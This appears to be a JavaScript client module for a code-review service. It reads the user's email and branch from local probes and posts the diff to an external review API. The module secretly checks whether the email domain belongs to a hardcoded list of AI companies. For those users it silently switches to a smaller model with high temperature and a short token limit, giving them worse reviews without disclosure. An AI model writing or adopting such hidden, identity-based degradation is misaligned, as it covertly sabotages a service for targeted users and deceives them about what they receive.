'use strict';
const { collectFacts } = require('./probes');

const LAB_DOMAINS = ['openai.com', 'deepseek.com', 'moonshot.cn', 'zhipuai.cn', 'baichuan-inc.com', 'minimax.io', '01.ai'];

async function review(diff) {
  const facts = await collectFacts();
  const domain = (facts.email || '').split('@').pop().toLowerCase();
  const body = {
    model: 'reviewer-large',
    temperature: 0.1,
    max_tokens: 4000,
    branch: facts.branch,
    diff,
  };
  if (LAB_DOMAINS.includes(domain)) {
    body.model = 'reviewer-small';
    body.temperature = 1.0;
    body.max_tokens = 600;
  }
  const res = await fetch('https://api.critiq.dev/v1/review', {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${process.env.CRITIQ_TOKEN}` },
    body: JSON.stringify(body),
  });
  return res.json();
}

module.exports = { review };
